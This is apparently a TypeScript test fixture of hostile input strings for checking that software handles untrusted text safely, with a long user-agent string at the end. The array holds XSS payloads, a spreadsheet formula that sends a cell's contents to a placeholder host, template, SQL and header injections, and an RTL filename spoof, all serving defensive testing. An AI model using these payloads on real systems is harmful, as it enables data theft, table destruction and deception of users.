/** Texts that break a careless reader, each in its own way; see `ground-truth.json`. */
export const HOSTILE_TEXTS: readonly string[] = [
  '<script>alert(document.domain)</script>',
  '"><img src=x onerror=alert(1)>',
  '=HYPERLINK("https://example.invalid/?"&A1,"open")',
  '{{constructor.constructor("return process")()}}',
  '\u202Egnp.tropxe\u202C',
  '\u001B[2J\u001B[31mFATAL\u001B[0m\u0007',
  'before\u0000after',
  'one\r\nSubject: two\r\n\r\nthree',
  "'; drop table events; --",
  '") | union (Usage) | where ("" == "',
  '레지스트리 관리자',
  'مستودع الصور',
  '\u{1F433}\u{1F468}\u200D\u{1F469}\u200D\u{1F467}',
  'lone \uD800 surrogate',
];

/** A user agent of eight kibibytes. */
export const LONG_AGENT = `Mozilla/5.0 ${'A'.repeat(8180)}`;
